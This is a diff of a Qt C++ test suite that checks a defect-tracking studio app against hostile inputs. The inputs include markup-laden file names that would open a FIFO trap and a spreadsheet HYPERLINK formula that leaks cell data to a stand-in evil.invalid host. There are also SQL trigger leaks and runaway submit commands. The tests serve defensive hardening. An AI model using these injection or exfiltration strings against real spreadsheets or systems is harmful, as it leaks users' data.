@@ -5,39 +5,23 @@
 
 #include "defects/defectstore.h"
 #include "defects/storeconnection.h"
-#include "folio/model/ddocument.h"
-#include "folio/model/dlink.h"
-#include "folio/view/dreportwidget.h"
 #include "host/defectsdock.h"
-#include "host/defectsettingsdialog.h"
-#include "host/defectshost.h"
-#include "host/defecttracker.h"
-#include "host/outputdock.h"
-#include "host/progresspanel.h"
-#include "host/sourceview.h"
 #include "host/studiomainwindow.h"
 #include "host/submitcommand.h"
-#include "sdk/qadialogs.h"
-#include "sdk/qastviewerwindow.h"
-#include "tests/studiotestkit.h"
+#include "tests/studio/studiofixture.h"
 #include "tests/testkit.h"
-#include "viewer/qareporter.h"
 
 #include <QApplication>
-#include <QContextMenuEvent>
 #include <QDialogButtonBox>
-#include <QHelpEvent>
 #include <QImage>
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
 #include <QLabel>
-#include <QLineEdit>
 #include <QMenu>
-#include <QMenuBar>
+#include <QPointer>
 #include <QProcess>
 #include <QPushButton>
-#include <QSpinBox>
 #include <QSqlDatabase>
 #include <QSqlError>
 #include <QSqlQuery>
@@ -71,8 +55,6 @@
 namespace {
 
 using namespace testkit;
-
-const QString submitEntry = QStringLiteral("&Submit Trackwell Defect Report");
 
 // A FIFO that nobody writes to: whoever opens it for reading waits for ever. A thread watches it
 // for as long as the trap lives; each time someone has it open for reading, the thread opens it
@@ -122,47 +104,6 @@ private:
 QString shownText(const QString& text)
 {
     return Qt::mightBeRichText(text) ? QTextDocumentFragment::fromHtml(text).toPlainText() : text;
-}
-
-// The first link of the documents shown whose target holds `part`.
-DLink* linkHolding(DFolioView* view, const QString& part)
-{
-    for (DDocument* document : view->documents()) {
-        QList<DItem*> pending{document};
-        while (!pending.isEmpty()) {
-            for (DItem* item = pending.takeLast(); item; item = item->next()) {
-                auto* link = dcast<DLink>(item);
-                if (link && link->target().contains(part))
-                    return link;
-                if (DItemContainer* container = item->asContainer())
-                    pending.append(container->firstChild());
-            }
-        }
-    }
-    return nullptr;
-}
-
-// A click on the first link whose target holds `part`, where the view draws it.
-bool clickLinkHolding(DFolioView* view, const QString& part)
-{
-    DLink* link = linkHolding(view, part);
-    if (!link || !view->moveTo(link))
-        return false;
-    const QRect drawn = view->itemRect(link);
-    if (drawn.isEmpty() || drawn.top() < 0)
-        return false;
-    QTest::mouseClick(view->viewport(), Qt::LeftButton, {},
-                      QPoint(drawn.left() + 3, drawn.top() + qMin(drawn.height() / 2, 6)));
-    return true;
-}
-
-// The mouse resting on `at` of `widget`: the tool tip it shows, or none.
-QString hover(QWidget* widget, const QPoint& at)
-{
-    QToolTip::hideText();
-    QHelpEvent rest(QEvent::ToolTip, at, widget->mapToGlobal(at));
-    QApplication::sendEvent(widget, &rest);
-    return QToolTip::isVisible() ? QToolTip::text() : QString();
 }
 
 // A result file with one failed item named `item` (markup allowed, escaped here), under a file
@@ -237,21 +178,18 @@ struct ShownBox
 // each, then what the output window said. Run in a child under a memory limit.
 int followSourceLinks(const QString& folder)
 {
-    QADialogs::install(std::make_unique<ScriptedDialogs>());
-    StudioMainWindow studio(pluginPath, folder + QStringLiteral("/settings.xml"));
-    studio.show();
-    auto* viewer =
-        qobject_cast<QAReporter*>(studio.openFiles({folder + QStringLiteral("/links.crc")}));
-    if (!viewer)
+    StudioFixture studio;
+    if (!studio.start(folder + QStringLiteral("/settings.xml")) ||
+        !studio.open({folder + QStringLiteral("/links.crc")}))
         return 3;
-    for (const char* target : {"/proc/self/pagemap", "big.c"}) {
-        studio.tabs()->setCurrentWidget(viewer);
-        if (!clickLinkHolding(viewer->documentView(), QLatin1String(target)))
+    for (const char* label : {"src/main.c line 12", "big.c line 1"}) {
+        if (!studio.showTab(studio.tabNamed(QStringLiteral("links.crc"))) ||
+            !studio.clickLink(QLatin1String(label)))
             return 4;
-        SourceView* source = studio.activeSource();
-        std::cout << "source=" << (source ? source->path().toStdString() : "none") << "\n";
+        const QString source = studio.sourcePath();
+        std::cout << "source=" << (source.isEmpty() ? "none" : source.toStdString()) << "\n";
     }
-    std::cout << studio.output()->contents().toStdString() << "\n";
+    std::cout << studio.output().toStdString() << "\n";
     return 0;
 }
 
@@ -283,118 +221,35 @@ class TestStudioHostile : public QObject
 
     QTemporaryDir m_dir;
     std::unique_ptr<FifoTrap> m_fifo; // destroyed after the studio, which may still look
-    std::unique_ptr<StudioMainWindow> m_studio;
-    ScriptedDialogs* m_dialogs = nullptr;
+    StudioFixture m_studio;
     QString m_store;
-    int m_outputMark = 0;
     int m_fifoMark = 0; // the FIFO's openings before the test
 
     QString path(const QString& name) const { return m_dir.filePath(name); }
-    QTreeView* outline() const { return qobject_cast<QTreeView*>(m_studio->currentOutline()); }
-    DefectsDock* dock() const { return m_studio->defects()->dock(); }
-    QAReporter* viewer() const { return qobject_cast<QAReporter*>(m_studio->activeViewer()); }
 
-    // File > Open, the files chosen in its dialog.
-    QAStViewerWindow* open(const QString& file)
+    // File > Open, the file chosen in its dialog; whether a tab shows it.
+    bool open(const QString& file)
     {
-        m_dialogs->files.append({file});
-        menuAction(*m_studio, QStringLiteral("&File"), QStringLiteral("&Open..."))->trigger();
-        m_dialogs->asked.removeIf(
-            [](const ScriptedDialogs::Asked& asked) { return asked.kind == "open"; });
-        return m_studio->activeViewer();
-    }
-
-    // What the output window gained since the last call, one message a line.
-    QStringList newOutput()
-    {
-        QStringList lines = m_studio->output()->contents().split(QLatin1Char('\n'));
-        if (lines.size() == 1 && lines.first().isEmpty())
-            lines.clear();
-        const QStringList fresh = lines.mid(m_outputMark);
-        m_outputMark = int(lines.size());
-        return fresh;
-    }
-
-    // The entry of the outline at the names drawn from the file entry down.
-    QModelIndex findItem(const QStringList& itemPath) const
-    {
-        const QAbstractItemModel* entries = outline()->model();
-        QModelIndex found;
-        for (const QString& text : itemPath) {
-            const QModelIndex parent = found;
-            found = QModelIndex();
-            for (int i = 0; i < entries->rowCount(parent) && !found.isValid(); ++i) {
-                if (entries->index(i, 0, parent).data().toString() == text)
-                    found = entries->index(i, 0, parent);
-            }
-            if (!found.isValid())
-                return {};
-        }
-        return found;
-    }
-
-    // Clicks the item in the outline, right-clicks it and chooses "Submit Trackwell Defect
-    // Report" from its context menu with the keyboard.
-    bool fileFromOutline(const QStringList& itemPath)
-    {
-        QTreeView* tree = outline();
-        const QModelIndex item = tree ? findItem(itemPath) : QModelIndex();
-        if (!item.isValid())
-            return false;
-        tree->scrollTo(item);
-        const QPoint at = tree->visualRect(item).center();
-        QTest::mouseClick(tree->viewport(), Qt::LeftButton, {}, at);
-        QContextMenuEvent rightClick(QContextMenuEvent::Mouse, at,
-                                     tree->viewport()->mapToGlobal(at));
-        QApplication::sendEvent(tree->viewport(), &rightClick);
-        auto* menu = qobject_cast<QMenu*>(QApplication::activePopupWidget());
-        if (!menu)
-            return false;
-        for (QAction* action : menu->actions()) {
-            if (action->text() == submitEntry)
-                menu->setActiveAction(action);
-        }
-        QTest::keyClick(menu, Qt::Key_Return);
-        return !menu->isVisible();
+        return m_studio.open({file}) && m_studio.shownFiles().contains(file);
     }
 
     // Tools > Defect Tracker..., the client and time limit typed in, OK.
     void configure(const QString& command, int seconds)
     {
-        menuAction(*m_studio, QStringLiteral("&Tools"), QStringLiteral("Defect &Tracker..."))
-            ->trigger();
-        auto* dialog = m_studio->findChild<DefectSettingsDialog*>();
-        QVERIFY(dialog && dialog->isVisible());
-        dialog->commandEdit()->selectAll();
-        QTest::keyClick(dialog->commandEdit(), Qt::Key_Delete);
-        QTest::keyClicks(dialog->commandEdit(), command);
-        dialog->timeLimitSpin()->selectAll();
-        QTest::keyClicks(dialog->timeLimitSpin(), QString::number(seconds));
-        QTest::mouseClick(dialog->buttons()->button(QDialogButtonBox::Ok), Qt::LeftButton);
-        QTRY_VERIFY(!m_studio->findChild<DefectSettingsDialog*>());
-        QCOMPARE(m_studio->defects()->tracker()->settings().submitCommand, command);
+        QVERIFY(m_studio.configureTracker(command, seconds, false));
     }
 
     void useStore(const QString& store)
     {
         m_store = store;
-        m_studio->defects()->setStorePath(store);
-    }
-
-    // The dock in front, its rows read.
-    QTableView* shownDock()
-    {
-        dock()->show();
-        dock()->raise();
-        return dock()->table();
+        m_studio.useDefectStore(store);
     }
 
     // The tool tip of the dock's cell of `row`, `column`, as the mouse resting on it shows it.
     QString cellTip(int row, int column)
     {
-        QTableView* table = shownDock();
+        QTableView* table = m_studio.defectsTable();
         const QModelIndex cell = table->model()->index(row, column);
-        table->scrollTo(cell);
         return hover(table->viewport(), table->visualRect(cell).center());
     }
 
@@ -404,7 +259,7 @@ class TestStudioHostile : public QObject
                                 QMessageBox::StandardButton button)
     {
         ShownBox seen;
-        QADialogs::install(nullptr);
+        m_studio.useRealDialogs();
         QTimer poll;
         poll.setInterval(5);
         connect(&poll, &QTimer::timeout, this, [&] {
@@ -416,14 +271,12 @@ class TestStudioHostile : public QObject
             seen.format = label && label->textFormat() == box->textFormat() ? box->textFormat()
                                                                             : Qt::AutoText;
             seen.text = label ? label->text() : QString();
-            box->button(button)->click();
+            QTest::mouseClick(box->button(button), Qt::LeftButton);
         });
         poll.start();
         act();
         poll.stop();
-        auto dialogs = std::make_unique<ScriptedDialogs>();
-        m_dialogs = dialogs.get();
-        QADialogs::install(std::move(dialogs));
+        m_studio.useScriptedDialogs();
         return seen;
     }
 
@@ -434,7 +287,7 @@ class TestStudioHostile : public QObject
         QTimer poll;
         poll.setInterval(5);
         connect(&poll, &QTimer::timeout, this, [&] {
-            if (acted || !m_studio->progress()->isRunning())
+            if (acted || !m_studio.progress()->isVisible())
                 return;
             acted = true;
             poll.stop();
@@ -443,6 +296,13 @@ class TestStudioHostile : public QObject
         poll.start();
         operation();
         return acted;
+    }
+
+    static const QStringList& noGoto()
+    {
+        static const QStringList names{QStringLiteral("rules-core.crc"),
+                                       QStringLiteral("src/main.c"), QStringLiteral("no-goto")};
+        return names;
     }
 
 private Q_SLOTS:
@@ -455,31 +315,23 @@ private Q_SLOTS:
         QVERIFY(QDir::setCurrent(m_dir.path()));
         m_fifo = std::make_unique<FifoTrap>(path(QStringLiteral("FIFO")));
         QVERIFY(m_fifo->isMade());
-        auto dialogs = std::make_unique<ScriptedDialogs>();
-        m_dialogs = dialogs.get();
-        QADialogs::install(std::move(dialogs));
-        m_studio = std::make_unique<StudioMainWindow>(pluginPath, path("settings.xml"));
-        QVERIFY2(m_studio->plugin(), qPrintable(m_studio->pluginError()));
-        m_studio->show();
-        QVERIFY(QTest::qWaitForWindowExposed(m_studio.get()));
-        m_studio->activateWindow();
-        QVERIFY(QTest::qWaitForWindowActive(m_studio.get()));
+        QVERIFY(m_studio.start(path("settings.xml")));
     }
 
     void init()
     {
         useStore(path(QStringLiteral("%1.sqlite").arg(QTest::currentTestFunction())));
-        newOutput();
+        m_studio.newOutput();
         m_fifoMark = m_fifo->opened();
-        m_dialogs->asked.clear();
-        m_dialogs->buttons.clear();
-        m_dialogs->files.clear();
+        m_studio.dialogs().asked.clear();
+        m_studio.dialogs().buttons.clear();
+        m_studio.dialogs().files.clear();
     }
 
     void cleanup()
     {
         QToolTip::hideText();
-        closeAllTabs(*m_studio);
+        QVERIFY(m_studio.closeAllTabs());
         // Whatever a test did, nothing may have opened the FIFO.
         QCOMPARE(m_fifo->opened() - m_fifoMark, 0);
     }
@@ -492,17 +344,16 @@ private Q_SLOTS:
         const QString report = path(QStringLiteral("<img src=FIFO>.crc"));
         QVERIFY(writeFile(report, reportWith(QStringLiteral("no-goto"))));
         QVERIFY(open(report));
-        QCOMPARE(m_studio->progress()->label()->textFormat(), Qt::PlainText);
+        QCOMPARE(m_studio.progressLabel()->textFormat(), Qt::PlainText);
 
         const QString store = path(QStringLiteral("<img src=FIFO>.sqlite"));
         useStore(store);
-        shownDock();
-        QCOMPARE(dock()->message()->textFormat(), Qt::PlainText);
-        QCOMPARE(dock()->message()->text(), QStringLiteral("No defects filed in %1").arg(store));
-        menuAction(*m_studio, QStringLiteral("&Tools"), QStringLiteral("Defect &Tracker..."))
-            ->trigger();
-        auto* dialog = m_studio->findChild<DefectSettingsDialog*>();
-        QVERIFY(dialog && dialog->isVisible());
+        QVERIFY(m_studio.defectsTable());
+        QLabel* message = m_studio.defectsMessage();
+        QCOMPARE(message->textFormat(), Qt::PlainText);
+        QCOMPARE(message->text(), QStringLiteral("No defects filed in %1").arg(store));
+        QPointer<QDialog> dialog = m_studio.openTrackerDialog();
+        QVERIFY(dialog);
         QLabel* where = nullptr;
         for (QLabel* label : dialog->findChildren<QLabel*>()) {
             if (label->text().startsWith(QLatin1String("Defects are kept in")))
@@ -511,8 +362,9 @@ private Q_SLOTS:
         QVERIFY(where);
         QCOMPARE(where->textFormat(), Qt::PlainText);
         QCOMPARE(where->text(), QStringLiteral("Defects are kept in %1.").arg(store));
-        QTest::mouseClick(dialog->buttons()->button(QDialogButtonBox::Cancel), Qt::LeftButton);
-        QTRY_VERIFY(!m_studio->findChild<DefectSettingsDialog*>());
+        QTest::mouseClick(dialog->findChild<QDialogButtonBox*>()->button(QDialogButtonBox::Cancel),
+                          Qt::LeftButton);
+        QTRY_VERIFY(dialog.isNull());
     }
 
     // Paths with markup in them show as they are in tool tips: a source tab's, Open Recent's and
@@ -525,26 +377,24 @@ private Q_SLOTS:
         QVERIFY(writeFile(report, reportWith(QStringLiteral("no-goto"),
                                              sourceLink(source + QStringLiteral(" line 2"),
                                                         QStringLiteral("main")))));
-        QAStViewerWindow* shown = open(report);
-        QVERIFY(shown);
-        QVERIFY(clickLinkHolding(viewer()->documentView(), QStringLiteral(".c line 2")));
-        QVERIFY2(m_studio->activeSource(), qPrintable(m_studio->output()->contents()));
-        QTabBar* tabs = m_studio->tabs()->tabBar();
-        const int sourceTab = m_studio->tabs()->indexOf(m_studio->activeSource());
+        QVERIFY(open(report));
+        const int reportTab = m_studio.tabs()->currentIndex();
+        const QString viewerTitle = m_studio.tabs()->currentWidget()->windowTitle();
+        QVERIFY(m_studio.clickLink(QStringLiteral("main")));
+        QVERIFY2(m_studio.sourceView(), qPrintable(m_studio.output()));
+        QTabBar* tabs = m_studio.tabs()->tabBar();
+        const int sourceTab = m_studio.tabs()->currentIndex();
         QCOMPARE(shownText(hover(tabs, tabs->tabRect(sourceTab).center())), source);
 
-        QMenu* recent =
-            menuAction(*m_studio, QStringLiteral("&File"), QStringLiteral("Open &Recent"))->menu();
-        recent->popup(m_studio->mapToGlobal(QPoint(20, 20)));
-        QTRY_VERIFY(recent->isVisible());
+        QMenu* recent = m_studio.openMenu({QStringLiteral("File"), QStringLiteral("Open Recent")});
+        QVERIFY(recent);
         QAction* entry = recent->actions().value(0);
         QVERIFY(entry && entry->statusTip() == report);
         QCOMPARE(shownText(hover(recent, recent->actionGeometry(entry).center())), report);
-        recent->close();
+        m_studio.closeMenus();
 
-        const int reportTab = m_studio->tabs()->indexOf(shown);
         QCOMPARE(shownText(hover(tabs, tabs->tabRect(reportTab).center())),
-                 shown->windowTitle() + QLatin1Char('\n') + report);
+                 viewerTitle + QLatin1Char('\n') + report);
     }
 
     // A link target with markup, from a result file, a SARIF log's uri and a JUnit report's
@@ -589,8 +439,10 @@ private Q_SLOTS:
             QVERIFY2(open(file), qPrintable(file));
             const ShownBox box = withRealMessageBox(
                 [&] {
-                    QVERIFY(
-                        clickLinkHolding(viewer()->documentView(), QStringLiteral("evil.desktop")));
+                    // The result file labels its link; a converted one shows the path.
+                    QVERIFY(file == crc ? m_studio.clickLink(QStringLiteral("src/main.c line 1"))
+                                        : m_studio.clickLink(QStringLiteral("evil.desktop"),
+                                                             Qt::MatchContains));
                 },
                 QMessageBox::No);
             QVERIFY2(box.shown, qPrintable(file));
@@ -599,8 +451,8 @@ private Q_SLOTS:
                          box.text.contains(QLatin1String("src/main.c</a><img src=\"FIFO\">")) &&
                          box.text.contains(QLatin1String("cannot be found")),
                      qPrintable(box.text));
-            QVERIFY(!m_studio->activeSource());
-            closeAllTabs(*m_studio);
+            QVERIFY(!m_studio.sourceView());
+            QVERIFY(m_studio.closeAllTabs());
         }
 
         const QString broken = path(QStringLiteral("<img src=FIFO>-reloaded.crc"));
@@ -609,8 +461,7 @@ private Q_SLOTS:
         QVERIFY(writeFile(broken, "<XROD><DOCUMENT tag='b'>\n<PARAGRAPH>\n</XROD>"));
         const ShownBox box = withRealMessageBox(
             [&] {
-                menuAction(*m_studio, QStringLiteral("&File"), QStringLiteral("&Reload"))
-                    ->trigger();
+                QVERIFY(m_studio.trigger({QStringLiteral("File"), QStringLiteral("Reload")}));
             },
             QMessageBox::Ok);
         QVERIFY(box.shown);
@@ -628,7 +479,7 @@ private Q_SLOTS:
         const QString report = path(QStringLiteral("dock/<img src=FIFO>.crc"));
         QVERIFY(writeFile(report, reportWith(item)));
         QVERIFY(open(report));
-        QVERIFY(fileFromOutline(
+        QVERIFY(m_studio.fileDefect(
             {QStringLiteral("<img src=FIFO>.crc"), QStringLiteral("src/main.c"), item}));
         QList<Defect> defects;
         QVERIFY(DefectStore(m_store).read(&defects));
@@ -654,9 +505,7 @@ private Q_SLOTS:
                                                  "'/></PARAGRAPH><PARAGRAPH><IMAGE "
                                                  "src='red.png'/></PARAGRAPH>")));
         QVERIFY(open(report));
-        DReportWidget* view = viewer()->documentView();
-        QVERIFY(view->moveTo(QString(), QString(), QStringLiteral("f1")));
-        const QImage drawn = view->viewport()->grab().toImage();
+        const QImage drawn = m_studio.documentView()->viewport()->grab().toImage();
         int redPixels = 0;
         for (int y = 0; y < drawn.height(); ++y) {
             for (int x = 0; x < drawn.width(); ++x)
@@ -719,10 +568,8 @@ private Q_SLOTS:
     void teamClientIsBoundedAndCancellable()
     {
         QVERIFY(open(example("rules-core.crc")));
-        const QStringList noGoto{QStringLiteral("rules-core.crc"), QStringLiteral("src/main.c"),
-                                 QStringLiteral("no-goto")};
         configure(QStringLiteral("/bin/sh -c 'head -c 3145728 /dev/zero | tr \"\\000\" x'"), 60);
-        QVERIFY(fileFromOutline(noGoto));
+        QVERIFY(m_studio.fileDefect(noGoto()));
         QList<Defect> defects;
         QVERIFY(DefectStore(m_store).read(&defects));
         QCOMPARE(defects.size(), 1);
@@ -735,27 +582,28 @@ private Q_SLOTS:
         configure(QCoreApplication::applicationFilePath() + QStringLiteral(" --try-store-write ") +
                       m_store,
                   60);
-        newOutput();
-        QVERIFY(fileFromOutline(noGoto));
+        m_studio.newOutput();
+        QVERIFY(m_studio.fileDefect(noGoto()));
         QVERIFY(DefectStore(m_store).read(&defects));
         QCOMPARE(defects.size(), 2);
         QCOMPARE(defects[1].externalReference, QStringLiteral("https://tracker.example/free"));
-        QCOMPARE(newOutput(), QStringList{QStringLiteral("Submit Defect Report ...")});
+        QCOMPARE(m_studio.newOutput(), QStringList{QStringLiteral("Submit Defect Report ...")});
 
         configure(QStringLiteral("sleep 30"), 20);
         QString label;
-        QVERIFY(whileHandingOn([&] { QVERIFY(fileFromOutline(noGoto)); },
+        QVERIFY(whileHandingOn([&] { QVERIFY(m_studio.fileDefect(noGoto())); },
                                [&] {
-                                   label = m_studio->progress()->label()->text();
-                                   QPushButton* cancel = m_studio->progress()->cancelButton();
+                                   label = m_studio.progressLabel()->text();
+                                   QPushButton* cancel = m_studio.cancelButton();
                                    QTest::mouseClick(cancel, Qt::LeftButton, {},
                                                      cancel->rect().center());
                                }));
         QCOMPARE(label, QStringLiteral("Handing the defect to sleep"));
-        QVERIFY(!m_studio->progress()->isRunning());
-        QCOMPARE(newOutput(), QStringList({QStringLiteral("Submit Defect Report ..."),
-                                           QStringLiteral("The submit command sleep was cancelled"),
-                                           QStringLiteral("Stopped.")}));
+        QVERIFY(!m_studio.progress()->isVisible());
+        QCOMPARE(m_studio.newOutput(),
+                 QStringList({QStringLiteral("Submit Defect Report ..."),
+                              QStringLiteral("The submit command sleep was cancelled"),
+                              QStringLiteral("Stopped.")}));
         QVERIFY(DefectStore(m_store).read(&defects));
         QCOMPARE(defects.size(), 2);
     }
@@ -769,13 +617,13 @@ private Q_SLOTS:
         QVERIFY(writeFile(report, reportWith(item)));
         QVERIFY(open(report));
         configure(QStringLiteral("/bin/echo -2+3"), 60);
-        QVERIFY(
-            fileFromOutline({QStringLiteral("formula.crc"), QStringLiteral("src/main.c"), item}));
+        QVERIFY(m_studio.fileDefect(
+            {QStringLiteral("formula.crc"), QStringLiteral("src/main.c"), item}));
         const QString csv = path(QStringLiteral("formula.csv"));
-        m_dialogs->files.append({csv});
-        QTableView* table = shownDock();
+        m_studio.dialogs().files.append({csv});
+        QTableView* table = m_studio.defectsTable();
         QCOMPARE(table->model()->rowCount(), 1);
-        QTest::mouseClick(dock()->exportButton(), Qt::LeftButton);
+        QTest::mouseClick(m_studio.defectsButton(QStringLiteral("Export CSV...")), Qt::LeftButton);
         const QByteArray exported = readFile(csv);
         QVERIFY2(exported.contains(
                      ",\"'=HYPERLINK(\"\"https://evil.invalid/?leak=\"\"&A2,\"\"x\"\")\","),
@@ -827,11 +675,12 @@ private Q_SLOTS:
                      listed.err.contains(QLatin1String("view defects")),
                  qPrintable(listed.err));
         useStore(viewStore);
-        shownDock();
-        QVERIFY(!dock()->message()->isHidden());
-        QVERIFY2(dock()->message()->text().contains(viewStore) &&
-                     dock()->message()->text().contains(QLatin1String("view defects")),
-                 qPrintable(dock()->message()->text()));
+        QVERIFY(m_studio.defectsTable());
+        QLabel* message = m_studio.defectsMessage();
+        QVERIFY(!message->isHidden());
+        QVERIFY2(message->text().contains(viewStore) &&
+                     message->text().contains(QLatin1String("view defects")),
+                 qPrintable(message->text()));
 
         const QString triggerStore = path(QStringLiteral("trigger.sqlite"));
         QVERIFY(DefectStore(triggerStore).prepareForFiling());
@@ -844,9 +693,8 @@ private Q_SLOTS:
                  qPrintable(triggered.errorString()));
         QVERIFY(open(example("rules-core.crc")));
         useStore(triggerStore);
-        QVERIFY(fileFromOutline({QStringLiteral("rules-core.crc"), QStringLiteral("src/main.c"),
-                                 QStringLiteral("no-goto")}));
-        const QStringList said = newOutput();
+        QVERIFY(m_studio.fileDefect(noGoto()));
+        const QStringList said = m_studio.newOutput();
         QCOMPARE(said.size(), 3);
         QVERIFY2(said[1].contains(triggerStore) && said[1].contains(QLatin1String("trigger leak")),
                  qPrintable(said[1]));
@@ -857,10 +705,9 @@ private Q_SLOTS:
         QVERIFY(
             runSql(foreign, {QStringLiteral("CREATE TABLE moz_places (id INTEGER, url TEXT)")}));
         useStore(foreign);
-        QVERIFY(fileFromOutline({QStringLiteral("rules-core.crc"), QStringLiteral("src/main.c"),
-                                 QStringLiteral("no-goto")}));
-        QVERIFY2(newOutput().value(1).contains(QLatin1String("table moz_places")),
-                 qPrintable(m_studio->output()->contents()));
+        QVERIFY(m_studio.fileDefect(noGoto()));
+        QVERIFY2(m_studio.newOutput().value(1).contains(QLatin1String("table moz_places")),
+                 qPrintable(m_studio.output()));
         QCOMPARE(countRows(foreign, QStringLiteral("sqlite_master")), 1);
 
         // A statement that would run for ever is stopped at the connection's time limit.
@@ -875,8 +722,8 @@ private Q_SLOTS:
 
     void cleanupTestCase()
     {
-        m_studio.reset();
-        QADialogs::install(nullptr);
+        m_studio.quit();
+        m_studio.useRealDialogs();
     }
 };
 
